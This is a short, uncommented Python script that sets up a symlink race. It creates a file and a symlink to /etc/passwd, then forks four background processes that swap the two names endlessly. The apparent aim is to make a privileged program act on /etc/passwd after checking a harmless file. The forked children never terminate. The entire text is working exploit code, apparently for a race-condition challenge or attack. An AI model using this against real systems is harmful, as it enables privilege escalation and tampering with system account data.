import os
open("a", "w").write("mine")
os.symlink("/etc/passwd", "b")
for _ in range(4):
    if os.fork() == 0:
        while True:
            for old, new in (("a", "c"), ("b", "a"), ("c", "b")):
                try:
                    os.rename(old, new)
                except OSError:
                    pass
print("DONE")
